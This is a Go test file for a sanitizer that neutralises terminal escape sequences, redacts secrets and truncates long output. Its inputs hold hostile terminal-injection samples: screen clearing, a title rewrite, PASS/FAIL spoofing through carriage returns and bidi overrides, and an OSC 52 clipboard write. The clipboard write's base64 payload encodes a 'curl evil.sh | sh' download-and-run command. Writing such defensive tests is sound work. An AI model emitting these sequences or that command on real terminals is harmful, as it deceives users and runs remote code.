package untrusted

import (
	"strings"
	"testing"
)

func TestShowDisarmsTheTerminal(t *testing.T) {
	cases := []struct{ name, in, want string }{
		{"clear the screen", "before\x1b[2J\x1b[Hafter", `before\x1b[2J\x1b[Hafter`},
		{"window title", "\x1b]0;pwned\x07", `\x1b]0;pwned\x07`},
		{"clipboard (OSC 52)", "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\", `\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\`},
		{"C1 CSI", "a\u009b31mb", `a\u009b31mb`},
		{"carriage return overwrite", "PASS\rFAIL", `PASS\rFAIL`},
		{"backspace and delete", "ab\x08\x7fc", `ab\x08\x7fc`},
		{"bidi override", "grade \u202eSSAP\u202c ok", `grade \u202eSSAP\u202c ok`},
		{"invalid UTF-8", "a\xffb", `a\xffb`},
		{"kept: tabs, newlines, accents, emoji", "a\tb\nç ✅", "a\tb\nç ✅"},
	}
	for _, c := range cases {
		if got := (Shown{}).Show(c.in); got != c.want {
			t.Errorf("%s: Show(%q) = %q, want %q", c.name, c.in, got, c.want)
		}
		if got := (Shown{}).Show(c.in); strings.ContainsAny(got, "\x1b\x07\r\x08\x7f\u009b\u202e") {
			t.Errorf("%s: %q still holds a control character", c.name, got)
		}
	}
}

func TestShowHidesSecrets(t *testing.T) {
	s := Shown{Secrets: []string{"tok-3f9a", "p@ss word", ""}}
	in := "token tok-3f9a; url postgres://lab:p%40ss+word@h/db and postgres://lab:p%40ss%20word@h/db; raw p@ss word"
	got := s.Show(in)
	for _, leak := range []string{"tok-3f9a", "p@ss word", "p%40ss+word", "p%40ss%20word"} {
		if strings.Contains(got, leak) {
			t.Errorf("Show left %q in %q", leak, got)
		}
	}
	if strings.Count(got, Redacted) != 4 {
		t.Errorf("Show(%q) = %q, want 4 redactions", in, got)
	}
	// An escape sequence cannot hide a secret by splitting it.
	if got := s.Show("tok-\x1b[0m3f9a"); strings.Contains(got, "tok-3f9a") {
		t.Errorf("a split secret came through whole: %q", got)
	}
}

func TestShowCutsLongLinesAndKeepsTheLast(t *testing.T) {
	long := strings.Repeat("é", 250)
	got := Shown{MaxLine: 200}.Show(long)
	if want := strings.Repeat("é", 200) + "… (50 more characters)"; got != want {
		t.Errorf("a 250-character line shows as %d characters, want 200 and the count", len([]rune(got)))
	}
	got = Shown{MaxLines: 2}.Show("one\ntwo\nthree\n")
	if got != "two\nthree" {
		t.Errorf("the last 2 lines = %q, want two and three", got)
	}
}
